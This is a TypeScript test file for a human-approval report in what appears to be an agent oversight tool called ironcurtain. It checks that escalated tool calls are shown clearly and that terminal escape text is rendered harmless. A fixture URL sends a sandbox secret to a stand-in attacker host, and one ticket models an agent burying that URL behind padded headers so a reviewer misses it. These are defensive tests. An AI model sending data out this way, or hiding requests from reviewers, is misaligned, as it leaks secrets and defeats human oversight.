// `ironcurtain escalations` and `approve` output, from the ticket: resources first and whole, padding cut visibly,
// everything inert in a real terminal emulator.
import { describe, expect, it } from 'vitest';
import type { PendingTicket } from '../src/domain/escalations/escalation-client.js';
import {
  durationText,
  formatPendingTickets,
  formatResolveReply,
} from '../src/domain/escalations/escalation-report.js';
import { hostileText, hostileTextShown } from './hostile-text.js';
import { renderInTerminal } from '@ironcurtain/testing';

const url = 'https://collect.attacker.example/collect?d=sandbox-secret-42';
const ticket: PendingTicket = {
  id: 'esc_3f9a0c1d2e4b5a6c',
  callId: 'call-1',
  sessionId: 'sess-1',
  serverName: 'fetch',
  toolName: 'http_fetch',
  // Five padded headers before the URL, in the agent's key order.
  canonicalArguments: {
    headers: Object.fromEntries([1, 2, 3, 4, 5].map((index) => [`X-Pad-${index}`, 'x'.repeat(900)])),
    url,
  },
  argsHash: 'a'.repeat(64),
  reason: 'The site is not on an approved list',
  rule: 'escalate-fetch-other-sites',
  escalatedRoles: ['fetch-url'],
  argumentRoles: { url: ['fetch-url'], headers: ['none'] },
  createdAt: '2026-11-24T12:00:00.000Z',
  expiresAt: '2026-11-24T12:05:00.000Z',
  status: 'pending',
  autoApproved: false,
};
const now = new Date('2026-11-24T12:01:12.000Z');

describe('escalation report', () => {
  it('shows the whole URL first, however much padding the agent put before it', () => {
    const text = formatPendingTickets([ticket], now);
    const lines = text.split('\n');
    expect(lines[0]).toBe(
      'esc_3f9a0c1d2e4b5a6c [3f9a0c]  fetch/http_fetch  session sess-1  waiting 1m12s (expires in 3m48s)',
    );
    expect(lines[1]).toBe(
      '  reason:    The site is not on an approved list (rule escalate-fetch-other-sites)',
    );
    expect(lines[2]).toBe('  arguments:');
    expect(lines[3]).toBe(`    url [fetch-url, escalated]: "${url}"`);
    expect(lines[4]).toMatch(/^ {4}headers \[none\]: \{"X-Pad-1":"x+… \(\d+ more characters\)$/);
    expect(text).toMatch(/1 pending ticket\. Answer with `ironcurtain approve ID/);
  });

  it('shows the remote the agent named and the one the push will go to', () => {
    const push: PendingTicket = {
      ...ticket,
      serverName: 'git',
      toolName: 'git_push',
      canonicalArguments: { remote: 'github.com/acme/site', branch: 'main' },
      requestedArguments: { remote: 'origin', branch: 'main' },
      escalatedRoles: ['git-remote-url'],
      argumentRoles: { remote: ['git-remote-url'], branch: ['none'] },
    };
    const lines = formatPendingTickets([push], now).split('\n');
    expect(lines.slice(3, 7)).toEqual([
      '    remote [git-remote-url, escalated]:',
      '      asked: "origin"',
      '      will run: "github.com/acme/site"',
      '    branch [none]: "main"',
    ]);
    // The ticket of the first test carries one form: one line per argument, no "asked".
    expect(formatPendingTickets([ticket], now)).not.toContain('asked:');
    const approved = formatResolveReply(
      { ticketId: push.id, isAccepted: true, status: 'approved' },
      'approved',
      push,
    );
    expect(approved).toContain('  remote [git-remote-url, escalated]:\n    asked: "origin"\n    will run: ');
  });

  it('shows hostile text in every field inert', async () => {
    const hostile: PendingTicket = {
      ...ticket,
      sessionId: `sess${hostileText}`,
      toolName: `http_fetch${hostileText}`,
      reason: hostileText,
      canonicalArguments: { url: `${url}${hostileText}`, headers: { [hostileText]: hostileText } },
    };
    const text = formatPendingTickets([hostile], now);
    expect(text).toContain(`    url [fetch-url, escalated]: "${url}title\\u001b]0;pwned-title\\u0007 `);
    expect(text).toContain(`  reason:    ${hostileTextShown} (rule`);
    const screen = await renderInTerminal(text, { cols: 600 });
    expect(screen.lines).toEqual(text.trimEnd().split('\n'));
    expect(screen.effects).toEqual([]);
    expect(screen.scrollsNormally).toBe(true);
  });

  it('names the call an answer settled, from the ticket, and says who won when it came too late', async () => {
    const approved = formatResolveReply(
      { ticketId: ticket.id, isAccepted: true, status: 'approved' },
      'approved',
      { ...ticket, reason: hostileText },
    );
    expect(approved.split('\n').slice(0, 2)).toEqual([
      'approved esc_3f9a0c1d2e4b5a6c: fetch.http_fetch',
      `  url [fetch-url, escalated]: "${url}"`,
    ]);
    const late = formatResolveReply(
      { ticketId: 'esc_1', isAccepted: false, status: 'denied', resolvedBy: `bob${hostileText}` },
      'approved',
    );
    expect(late).toBe(`esc_1 was already denied by bob${hostileTextShown}; your answer was not used\n`);
    for (const output of [approved, late]) {
      const screen = await renderInTerminal(output, { cols: 600 });
      expect(screen.effects).toEqual([]);
      expect(screen.lines).toEqual(output.trimEnd().split('\n'));
    }
    expect(formatResolveReply({ ticketId: 'esc_1', isAccepted: false, status: 'expired' }, 'approved')).toBe(
      'esc_1 expired before your answer (the call was denied)\n',
    );
  });

  it('writes durations compactly', () => {
    expect(durationText(5_400)).toBe('5s');
    expect(durationText(125_000)).toBe('2m05s');
    expect(durationText(3_720_000)).toBe('1h02m');
    expect(durationText(-1)).toBe('0s');
  });
});
